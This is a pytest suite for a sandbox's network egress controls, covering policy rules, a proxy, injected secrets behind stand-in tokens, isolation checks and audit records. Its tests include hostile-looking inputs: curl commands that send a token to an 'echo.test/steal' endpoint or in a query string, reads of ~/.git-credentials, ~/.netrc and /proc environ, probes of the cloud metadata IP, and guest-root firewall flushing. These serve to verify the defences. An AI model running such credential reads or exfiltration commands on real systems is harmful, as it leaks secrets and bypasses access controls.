"""The way out as programs inside meet it: real clients, a real guest, a small Internet in namespaces (tests/inet).

One sandbox serves most tests; policy is locked down and opened by rules. What arrived anywhere is in the
world's log (O2).
"""
import hashlib
import json
import os
import re
import shutil
import signal
import statistics
import subprocess
import time

import pytest

import rig as rigs
from inet import oracles
from inet.world import NAMES, TRAPS, wait_for

ALLOWED = ["echo.test", "llm.test:443", "ws.test:443", "api.test:443", "github.com:443", "api.github.com:443", "v6.test:443",
           "selfsigned.bad.test:443"]


@pytest.fixture(scope="module")
def net(world, image):
    """A daemon in the world's host namespace; secrets of two built-in services."""
    made = rigs.Rig(world.host)
    made.ok("settings", "set", "tls.extraCA", str(world.ca.cert))
    made.claude = "sk-ant-" + os.urandom(24).hex()
    made.ok("policy", "init", "locked-down")
    made.ok("policy", "allow", ",".join(ALLOWED))
    made.ok("policy", "deny", "echo.test:443", "--path", "/forbidden/**")
    made.ok("secret", "set", "github", input=world.git_token + "\n")
    made.ok("secret", "set", "anthropic", input=made.claude + "\n")
    yield made
    left = made.close()
    assert not left, "left behind: " + "\n".join(left)


@pytest.fixture(scope="module")
def a(net):
    return net.create("box-a").start()


def curl(box, *words, timeout=90):
    return box.run("curl", "-sS", "-m", "60", *words, timeout=timeout)


def requests(world, mark, name):
    return [e for e in world.since(mark) if "head" in e and e["at"][0] == NAMES[name]]


# ---- clients ----


@pytest.mark.parametrize("how", [("--http1.1",), ("--http2",), ("-6",), ("--noproxy", "*"), ("-x", "http://gateway.sbx.internal:3128")])
def test_curl(a, how):
    name = "v6.test" if how == ("-6",) else "echo.test"
    got = curl(a, *how, "-w", " %{http_version}", f"https://{name}/hello?x=1")
    assert got.code == 0, got
    body, version = got.text.rsplit(" ", 1)
    assert json.loads(body)["target"] == "/hello?x=1"
    assert version == ("1.1" if how == ("--http1.1",) else "2")


def test_plain_http_methods_and_bodies(world, a):
    mark = world.mark()
    assert curl(a, "http://echo.test/plain").code == 0
    assert curl(a, "-X", "PUT", "-d", "x=1", "https://echo.test/put").code == 0
    assert curl(a, "-X", "DELETE", "https://echo.test/del").code == 0
    assert curl(a, "-I", "https://echo.test/head").text.startswith("HTTP/2 200")
    assert [e["line"].split(" H")[0] for e in requests(world, mark, "echo.test")] == ["GET /plain", "PUT /put", "DELETE /del", "HEAD /head"]


def test_python_and_node_and_openssl(a):
    got = a.run("python3", "-c", "import urllib.request as u; print(u.urlopen('https://echo.test/py').read().decode())", timeout=90)
    assert got.code == 0 and '"/py"' in got.text, got
    if a.run("sh", "-c", "command -v node").code == 0:
        got = a.run("node", "-e", "fetch('https://echo.test/js').then(r => r.text()).then(t => console.log(t))", timeout=120)
        assert got.code == 0 and '"/js"' in got.text, got
    got = a.sh("printf 'GET /ssl HTTP/1.1\\r\\nHost: echo.test\\r\\nConnection: close\\r\\n\\r\\n' | "
               "openssl s_client -quiet -verify_return_error -servername echo.test -connect echo.test:443 2>&1", timeout=90)
    assert '"/ssl"' in got.text, got


def test_names(world, a, net):
    mark = world.mark()
    script = ("import socket,sys\n"
              "for n in sys.argv[1:]:\n"
              "  try: print(n, sorted({x[4][0] for x in socket.getaddrinfo(n, 443, type=socket.SOCK_STREAM)})[0])\n"
              "  except OSError as e: print(n, 'none')\n")
    got = a.python(script, "echo.test", "v6.test", "evil.test", "x.echo.test", "gateway.sbx.internal", timeout=60).text.splitlines()
    assert got[0] == f"echo.test {NAMES['echo.test']}" and got[1].startswith("v6.test 2a0e:77:1::10")
    assert got[2:4] == ["evil.test none", "x.echo.test none"]
    assert got[4] in ("gateway.sbx.internal 198.18.0.1", "gateway.sbx.internal fd53:6278::1")
    assert set(world.questions(mark)) <= {"echo.test", "v6.test"}


def test_git_clone_and_push_with_a_credential_that_is_not_inside(world, a, net):
    world.repository("demo")
    mark = world.mark()
    got = a.sh("cd /tmp && git clone https://github.com/git/demo.git && cd demo && echo hello > file && git add file && "
               "git -c user.name=x -c user.email=x@x commit -qm two && git push 2>&1", timeout=180)
    assert got.code == 0, got
    log = subprocess.run(["git", "-C", world.base / "git" / "git" / "demo.git", "log", "--format=%s", "main"], stdout=subprocess.PIPE)
    assert log.stdout.decode().split() == ["two", "first"]
    assert any("git-receive-pack" in e["line"] for e in requests(world, mark, "github.com"))
    env = a.ok("env; cat ~/.git-credentials ~/.netrc ~/.config/gh/hosts.yml 2>/dev/null; git config --list")
    assert world.git_token not in env and "GH_TOKEN=gho_" in env


def test_cr22_the_stand_in_is_worth_nothing_elsewhere(world, a):
    mark = world.mark()
    got = a.sh('curl -sS -m 60 -o /dev/null -w "%{http_code} " -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/user; '
               'curl -sS -m 60 -o /dev/null -w "%{http_code} " -H "Authorization: Bearer $GH_TOKEN" https://echo.test/steal; '
               'curl -sS -m 60 -o /dev/null -w "%{http_code} " -H "Authorization: Bearer mine" https://api.github.com/user; '
               'curl -sS -m 60 -o /dev/null -w "%{http_code} " "https://echo.test/?t=$GH_TOKEN"', timeout=180)
    assert got.text.split() == ["200", "403", "403", "403"]
    [seen] = requests(world, mark, "api.github.com")
    assert f"authorization: Bearer {world.git_token}" in seen["head"]
    assert requests(world, mark, "echo.test") == []


def test_server_sent_events_are_not_held_back(a):
    got = a.python("import time,urllib.request\n"
                   "r = urllib.request.urlopen('https://llm.test/sse?n=5&gap=0.5')\n"
                   "t = []\n"
                   "while True:\n"
                   "  line = r.readline()\n"
                   "  if not line: break\n"
                   "  if line.startswith(b'data'): t.append(time.monotonic())\n"
                   "print(len(t), round(t[-1] - t[0], 1))\n", timeout=90)
    count, spread = got.text.split()
    assert count == "5" and float(spread) > 1.2, got


WS = r"""
import base64, os, socket, ssl, struct
s = ssl.create_default_context().wrap_socket(socket.create_connection(("ws.test", 443), 60), server_hostname="ws.test")
key = base64.b64encode(os.urandom(16)).decode()
s.sendall(f"GET /ws HTTP/1.1\r\nHost: ws.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n\r\n".encode())
f = s.makefile("rb")
print(f.readline().split()[1].decode())
while f.readline() != b"\r\n": pass
for text in (b"one", b"x" * 3000):
    mask = os.urandom(4)
    head = bytes([0x81, 0x80 | len(text)]) if len(text) < 126 else struct.pack(">BBH", 0x81, 0xfe, len(text))
    s.sendall(head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(text)))
    one, two = f.read(2)
    size = struct.unpack(">H", f.read(2))[0] if two == 126 else two
    print(f.read(size) == text)
"""


def test_websocket(world, a):
    mark = world.mark()
    got = a.python(WS, user="1000", timeout=90)
    assert got.text.split() == ["101", "True", "True"], got
    frames = [e for e in world.since(mark) if "ws" in e]
    assert [f["size"] for f in frames][:2] == [3, 3000] and all(f["masked"] for f in frames[:2])


NODE_WS = r"""
const ws = new (require(process.argv[1]))('wss://ws.test/ws', {handshakeTimeout: 60000}), sent = ['one', 'x'.repeat(70000)];
ws.on('open', () => sent.forEach(t => ws.send(t)));
let got = 0;
ws.on('message', m => { console.log(m.toString() === sent[got]); if (++got === sent.length) ws.close(1000); });
ws.on('close', code => console.log(code));
ws.on('error', e => console.log(e.message));
"""


def test_websocket_of_node(world, a, tmp_path):
    """The package that most programs of Node use, as it comes from the registry that this host's npm is set up with."""
    if not shutil.which("npm"):
        pytest.skip("this host has no npm to get the package with")
    try:
        got = subprocess.run(["npm", "pack", "--silent", "--fetch-retries=0", "--fetch-timeout=10000", "ws@8.18.0"], cwd=tmp_path,
                             stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=60)
    except subprocess.TimeoutExpired:
        got = None
    if not got or got.returncode:
        pytest.skip("the registry that npm is set up with cannot be reached from this host")
    if a.run("sh", "-c", "command -v node").code:
        pytest.skip("the image has no node")
    subprocess.run(["tar", "-xf", tmp_path / got.stdout.decode().split()[-1], "-C", a.ws, "--no-same-owner"], check=True)
    mark = world.mark()
    got = a.run("node", "-e", NODE_WS, a.ws / "package", timeout=120)
    assert got.text.split() == ["true", "true", "1000"], got
    frames = [e for e in world.since(mark) if "ws" in e]
    assert [f["size"] for f in frames][:2] == [3, 70000] and all(f["masked"] for f in frames[:2])


def test_half_close_and_a_server_that_speaks_first(world, a):
    mark = world.mark()
    got = a.python("import socket\n"
                   "s = socket.create_connection(('echo.test', 2525), 20)\n"
                   "print(s.recv(100))\n"
                   "s.sendall(b'HELO\\r\\n')\n"
                   "print(s.recv(100))\n"
                   "s.shutdown(socket.SHUT_WR)\n"
                   "print(s.recv(100), s.recv(100))\n", timeout=60)
    assert got.text.split("\n")[:3] == ["b'220 ready\\r\\n'", "b'250 HELO\\r\\n'", "b'221 bye\\r\\n' b''"], got
    assert [e["raw"] for e in world.since(mark) if "raw" in e] == ["HELO\r\n", ""]


def test_a_hundred_megabytes_down_and_up(world, a):
    size = 100 << 20
    block = bytes(range(256)) * 256
    want = hashlib.sha256(block * (size // len(block))).hexdigest()
    got = a.sh(f"curl -sS -m 280 http://echo.test/bytes/{size} | sha256sum", timeout=300)
    assert got.text.split()[0] == want, got
    mark = world.mark()
    got = a.sh(f"head -c {size} /dev/zero | curl -sS -m 280 -T - http://echo.test/sum", timeout=300)
    assert got.text == hashlib.sha256(bytes(size)).hexdigest(), (got, [e for e in world.since(mark) if "trouble" in e])
    assert requests(world, mark, "echo.test")[0]["size"] == size
    small = 10 << 20  # the same under TLS, where the guest's own work is the most of it
    want = hashlib.sha256(block * (small // len(block))).hexdigest()
    assert a.sh(f"curl -sS -m 120 https://echo.test/bytes/{small} | sha256sum", timeout=150).text.split()[0] == want


def test_a_certificate_that_does_not_hold_is_said_so(a):
    got = curl(a, "-w", " %{http_code}", "https://selfsigned.bad.test/")
    assert got.text.endswith(" 502") and "certificate" in got.text, got


# ---- verdicts, and the same on every way ----


RAW = r"""
import json, socket, ssl, struct, sys
def raw(to, port):
    s = socket.socket(socket.AF_VSOCK)
    s.settimeout(30)
    s.connect((2, 2))
    packed = socket.inet_pton(socket.AF_INET6 if ":" in to else socket.AF_INET, to)
    s.sendall(struct.pack("<4sBBH16sB7x", b"SBXT", 1, 6 if ":" in to else 4, port, packed.ljust(16, b"\0"), 0))
    return s
def redirect(to, port):
    return socket.create_connection((to, port), 30)
def proxy(to, port):
    s = socket.create_connection(("gateway.sbx.internal", 3128), 30)
    name = f"[{to}]" if ":" in to else to
    s.sendall(f"CONNECT {name}:{port} HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n".encode())
    got = b""
    while b"\r\n\r\n" not in got:
        part = s.recv(1)
        if not part: raise OSError
        got += part
    if b" 200 " not in got.split(b"\r\n")[0]: raise OSError
    return s
out = {}
asks = json.loads(sys.argv[1])
for way in (raw, redirect, proxy):
    for name, to, port, path in asks:
        key = f"{name}:{port}{path}"
        try:
            if name[0].isalpha():
                try: found = socket.getaddrinfo(name, port, type=socket.SOCK_STREAM)[0][4][0]
                except OSError: found = to
            else: found = to
            s = way(name if way is proxy and name[0].isalpha() else found, port)
            if port in (443, 8443):
                s = ssl.create_default_context().wrap_socket(s, server_hostname=name)
            s.settimeout(30)
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {name}{'' if port in (80, 443) else f':{port}'}\r\nConnection: close\r\n\r\n".encode())
            good = s.recv(100).startswith(b"HTTP/1.1 200")
        except OSError:
            good = False
        out.setdefault(way.__name__, {})[key] = good
print(json.dumps(out))
"""


def test_o9_one_vector_redirected_by_the_proxy_and_by_hand_on_vsock(world, a, net):
    asks = [("echo.test", NAMES["echo.test"], 443, "/a"), ("echo.test", NAMES["echo.test"], 443, "/forbidden/x"), ("echo.test", NAMES["echo.test"], 80, "/a"),
            ("evil.test", NAMES["evil.test"], 443, "/"), ("evil.test", NAMES["evil.test"], 80, "/"), ("other.test", NAMES["other.test"], 443, "/"),
            ("169.254.169.254", "169.254.169.254", 80, "/"), ("10.0.0.5", "10.0.0.5", 80, "/"), ("api.test", NAMES["api.test"], 80, "/")]
    mark = world.mark()
    got = a.python(RAW, json.dumps(asks), timeout=240)
    assert got.code == 0, got
    vectors = json.loads(got.text)
    oracles.vectors_equal(vectors)
    assert [k for k, v in vectors["raw"].items() if v] == ["echo.test:443/a", "echo.test:80/a"]
    assert {e["at"][0] for e in world.since(mark) if "at" in e} <= {NAMES["echo.test"]}


VECTOR = r"""
import concurrent.futures, json, ssl, sys, urllib.request
context = ssl.create_default_context()
def one(url):
    try:
        with urllib.request.urlopen(urllib.request.Request(url), timeout=60, context=context) as r: return r.status == 200
    except OSError: return False
with concurrent.futures.ThreadPoolExecutor(6) as pool:
    urls = json.loads(sys.argv[1])
    print(json.dumps(dict(zip(urls, pool.map(one, urls)))))
"""


def test_o9_the_proxy_variables_change_nothing(world, a):
    """What programs get that follow HTTP_PROXY and HTTPS_PROXY (absolute form, CONNECT), and those that do not."""
    urls = [f"{scheme}://{name}/x" for name in NAMES if "anthropic" not in name for scheme in ("http", "https")]
    urls += ["https://echo.test/forbidden/x", "https://echo.test/a/../forbidden/x", "https://echo.test:8443/x", "http://echo.test:7001/x",
             "https://v6.test/x", "https://selfsigned.bad.test/x", "http://169.254.169.254/", "http://10.0.0.5/", "http://192.168.77.5/",
             "http://[fd00:ec2::254]/", "http://127.0.0.1:8099/", f"http://{NAMES['evil.test']}/"]
    proxy = "http://gateway.sbx.internal:3128"
    variables = [f"{n}={proxy}" for n in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy")]
    mark = world.mark()
    vectors = {}
    for way, before in (("redirect", ["env", "-u", "no_proxy", "-u", "NO_PROXY"]), ("proxy", ["env", "-u", "no_proxy", "-u", "NO_PROXY", *variables])):
        got = a.run(*before, "python3", "-c", VECTOR, json.dumps(urls), timeout=240)
        assert got.code == 0, got
        vectors[way] = json.loads(got.text)
    assert len(urls) >= 30
    oracles.vectors_equal(vectors)
    allowed = {u for u, good in vectors["proxy"].items() if good}
    assert allowed == {"http://echo.test/x", "https://echo.test/x", "https://echo.test:8443/x", "https://llm.test/x", "https://ws.test/x", "https://api.test/x",
                       "https://github.com/x", "https://api.github.com/x", "https://v6.test/x"}, vectors
    assert {e["at"][0] for e in world.since(mark) if "at" in e}.isdisjoint({NAMES["evil.test"], NAMES["other.test"], *TRAPS})


def test_nw02_nw03_there_is_no_other_device_and_no_other_way(world, a):
    mark, packets = world.mark(), world.packets()
    links = a.ok("ls /sys/class/net").split()
    assert set(links) <= {"lo", "sbx0"}
    got = a.python(f"""
import socket
def attempt(*how, to=None):
    try:
        s = socket.socket(*how)
        s.settimeout(1)
        s.sendto(b"x" * 40, to)
        s.recv(10)
        return True
    except OSError:
        return False
print([attempt(socket.AF_INET, socket.SOCK_DGRAM, to=(h, p)) for h, p in (("{NAMES['echo.test']}", 443), ("{NAMES['evil.test']}", 123))],
      attempt(socket.AF_INET, socket.SOCK_RAW, 1, to=("8.8.8.8", 0)), attempt(socket.AF_INET, socket.SOCK_RAW, 47, to=("8.8.8.8", 0)),
      attempt(socket.AF_INET6, socket.SOCK_DGRAM, to=("ff02::fb", 5353)))
""", timeout=60)
    assert got.code == 0 and "True" not in got.text, got
    # what speaks DNS to any resolver ends up at the sandbox's own, under its policy
    a.python("import socket,struct\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(2)\n"
             "s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\4test\\0\\0\\1\\0\\1', ('8.8.8.8', 53))\ntry: s.recv(99)\nexcept OSError: pass\n")
    assert world.since(mark) == [] and world.packets() - packets <= 6
    # class 2 is a network controller, virtio's device 1 a network card
    assert a.root("grep -l '^0x02' /sys/bus/pci/devices/*/class; grep -l '^0x0001$' /sys/bus/virtio/devices/*/device").text == ""


def test_nw01_refusals_are_fast(a):
    got = a.python(f"""
import socket, time
worst = 0
for to in ("{NAMES['evil.test']}", "8.8.8.8", "10.0.0.5", "169.254.169.254"):
    for port in (80, 443, 22):
        t = time.monotonic()
        try:
            s = socket.create_connection((to, port), 12)
            s.settimeout(12)
            s.sendall(b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
            s.recv(1)
        except OSError: pass
        worst = max(worst, time.monotonic() - t)
print(worst)
""", timeout=200)
    assert float(got.text) < 2, got


def test_nw18_no_neighbour_and_no_other_port_of_the_host(world, a):
    got = a.python("""
import socket
open_ = []
for cid in (0, 1, 2, 3, 4, 5, 100, 0xfffffffe):
    for port in (0, 1, 2, 3, 4, 22, 1024, 9000):
        s = socket.socket(socket.AF_VSOCK)
        s.settimeout(1)
        try:
            s.connect((cid, port))
            open_.append((cid, port))
        except OSError: pass
        s.close()
print([o for o in open_ if o[0] == 2], [o for o in open_ if o[0] not in (1, 2, 3)])
""", timeout=120)
    mine, others = got.text.strip().split("] [")
    assert others == "]", got
    assert set(re.findall(r"\d+, (\d+)", mine)) <= {"1", "2", "3"}, got


# ---- changes while it runs ----


def test_a_change_of_the_rules_is_in_force_in_a_tenth_of_a_second(world, a, net):
    """From the command to the end of a stream that it forbids, as the server sees it."""
    took = []
    for _ in range(3):
        mark = world.mark()
        client = net.popen("exec", "box-a", "--", "python3", "-c",
                           "import socket; s = socket.create_connection(('echo.test', 22), 20); s.recv(100); s.recv(100)")
        try:
            wait_for(lambda: [e for e in world.since(mark) if e.get("connected") and e["at"][1] == 22], 30)
            time.sleep(0.5)
            begin = time.time()
            rule = json.loads(net.ok("policy", "deny", "echo.test:22", "--json").out)["rules"][0]["id"]
            [end] = wait_for(lambda: [e for e in world.since(mark) if e.get("raw") == "" or e.get("trouble")], 10)
            took.append(end["t"] - begin)
            client.wait(20)
        finally:
            client.kill()
            client.wait()
        net.ok("policy", "rm", rule)
    assert min(took) < 0.1 and statistics.median(took) < 0.5, took


def test_a_secret_is_live_at_once_and_gone_at_once(world, a, net):
    ask = ("-o", "/dev/null", "-w", "%{http_code}", "https://api.github.com/x")
    for value in ("ghp_second" + os.urandom(8).hex(), world.git_token):
        net.ok("secret", "set", "github", input=value + "\n")
        mark = world.mark()
        assert curl(a, *ask).text == "200"
        assert f"Bearer {value}" in requests(world, mark, "api.github.com")[0]["head"]
    net.ok("secret", "rm", "github")
    mark = world.mark()
    assert curl(a, *ask).text in ("403", "200")
    assert all(world.git_token not in e["head"] for e in requests(world, mark, "api.github.com"))
    net.ok("secret", "set", "github", input=world.git_token + "\n")
    assert curl(a, *ask).text == "200"


def test_a_custom_secret_is_live_with_its_places_and_gone_with_them(world, a, net):
    value, more = "own-" + os.urandom(8).hex(), "of-the-client"
    ask = ("-o", "/dev/null", "-w", "%{http_code}", "https://api.test/own")
    told = net.ok("secret", "set-custom", "--name", "own", "--host", "api.test", "--env", "OWN_TOKEN", "--in", "header:x-own",
                  "--in", "query:own", "--placeholder", "own-{rand}-x", "--sandbox", "box-a", input=value).errors
    stand_in = re.search(r"inside, (own-[A-Za-z0-9]{40}-x) stands for it", told)[1]
    mark = world.mark()
    assert curl(a, "-H", f"X-Own: k={stand_in}; {more}", *ask).text == "200"
    assert f"k={value}; {more}" in requests(world, mark, "api.test")[0]["head"]
    mark = world.mark()
    assert curl(a, *ask[:-1], f"{ask[-1]}?a=1&own={stand_in}").text == "200"
    assert f"?a=1&own={value}" in requests(world, mark, "api.test")[0]["line"]
    # and nowhere else: not in another field, the path, a body, or at another host
    mark = world.mark()
    assert curl(a, "-H", f"X-Other: {stand_in}", *ask).text == "403"
    assert curl(a, *ask[:-1], f"https://api.test/{stand_in}").text == "403"
    assert curl(a, "-d", f"text={stand_in}", *ask).text == "403"
    assert curl(a, "-H", f"X-Own: {stand_in}", *ask[:-1], "https://echo.test/x").text == "403"
    assert value not in json.dumps(world.since(mark))
    assert value not in a.ok("env; set")
    net.ok("secret", "rm", "own", "--sandbox", "box-a")
    mark = world.mark()
    assert curl(a, "-H", f"X-Own: {stand_in}", *ask).text == "200"  # a text like any other, now
    assert value not in json.dumps(world.since(mark))
    assert "own" not in [s["name"] for s in net.json("secret", "ls", "--services", "--json")["services"]]


def test_an_authority_of_ones_own_is_trusted_at_once_and_no_longer(world, a, net):
    ask = ("-o", "/dev/null", "-w", "%{http_code}", "https://echo.test/authority")
    assert curl(a, *ask).text == "200"
    net.ok("settings", "unset", "tls.extraCA")
    assert curl(a, *ask).text == "502"
    broken = net.base / "broken.pem"
    broken.write_text("-----BEGIN CERTIFICATE-----\nx\n")
    net.fails("settings", "set", "tls.extraCA", str(broken))
    assert curl(a, *ask).text == "502"  # and the way out still stands
    net.ok("settings", "set", "tls.extraCA", str(world.ca.cert))
    assert curl(a, *ask).text == "200"


@pytest.mark.parametrize("who", ["sbx-front", "sbx-vault"])
def test_rl06_rl07_a_killed_one_comes_back_with_all_controls(world, a, net, who):
    [pid] = [p for p, name in net.group_of("box-a").items() if name == who]
    mark = world.mark()
    os.kill(pid, signal.SIGKILL)
    started = time.monotonic()
    wait_for(lambda: [p for p, name in net.group_of("box-a").items() if name == who and p != pid], 3, f"{who} did not come back")
    assert time.monotonic() - started < 2
    good = wait_for(lambda: curl(a, "-o", "/dev/null", "-w", "%{http_code}", "https://api.github.com/back").text == "200", 40)
    assert good
    assert curl(a, "-o", "/dev/null", "-w", "%{http_code}", "https://echo.test/forbidden/x").text == "403"
    assert curl(a, "https://evil.test/").code == 6
    assert all(f"Bearer {world.git_token}" in e["head"] for e in requests(world, mark, "api.github.com"))
    assert [e for e in world.since(mark) if "at" in e and e["at"][0] in (NAMES["evil.test"], *TRAPS)] == []


# ---- what stays ----


def test_o1_the_secrets_are_nowhere_but_in_the_vault(world, a, net):
    """CR-01: the guest's disk and memory, the state, the logs, every process but the vault."""
    a.sh("curl -sS -m 60 'https://api.github.com/echo?form=json-all'; curl -sS -m 60 'https://api.github.com/echo?form=base64' -H \"Authorization: Bearer $GH_TOKEN\"; sync",
         timeout=150)
    inside = a.root_ok("cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; env")
    group = net.group_of("box-a")
    vaults = [p for p, name in group.items() if name == "sbx-vault"]
    assert len(vaults) == 1
    others = [p for p in {*group, net.daemon_pid(), *net.look()} if p not in vaults]
    assert any(name.startswith("qemu") or name == "sbx-machine" for name in group.values())
    for secret in (world.git_token, net.claude):
        # in the memory of a gigabyte only the likely forms, for time
        forms = {n: v for n, v in oracles.needles(secret).items() if n in ("raw", "base64-0", "base64-1", "base64-2", "reversed")}
        assert oracles.scan_bytes(inside.encode(), oracles.needles(secret)) == []
        found = oracles.scan_tree(net.state, forms)
        assert found == {}, found
        for pid in others:
            try:
                hits, seen = oracles.scan_process(pid, forms)
            except OSError:
                continue
            if pid == net.daemon_pid():
                hits = []  # it hands values on; what stays of them in its memory is its own promise
            assert hits == [], (pid, group.get(pid), hits)
        assert oracles.scan_bytes(net.ok("policy", "log", "--json").out, forms) == []


def test_o5_the_record_is_whole(a, net):
    verified = net.ok("audit", "verify")
    assert "the chain holds" in verified.text
    shown = net.ok("policy", "log", "--json").text
    for word in ("echo.test", "evil.test", "api.github.com", "default-deny"):
        assert word in shown, word


def test_allow_and_deny_of_one_sandbox(world, net):
    """--allow and --deny: for that sandbox; its neighbour goes by its own."""
    b = net.create("box-b", more=("--allow", "other.test:443", "--deny", "echo.test"), size=("--cpus", "1", "--memory", "512m")).start()
    assert curl(b, "-o", "/dev/null", "-w", "%{http_code}", "https://other.test/").text == "200"
    assert curl(b, "https://echo.test/").code == 6
    mark = world.mark()
    # guest root without its rules and its forwarder has no network at all
    b.root("nft flush ruleset; ip route del default; ip link set sbx0 down", timeout=30)
    got = b.python("import socket\ntry:\n s = socket.create_connection(('%s', 443), 5); print('connected')\nexcept OSError: print('none')" % NAMES["other.test"], timeout=60)
    assert got.text.strip() == "none", got
    assert [e for e in world.since(mark) if "at" in e] == []
    b.remove()
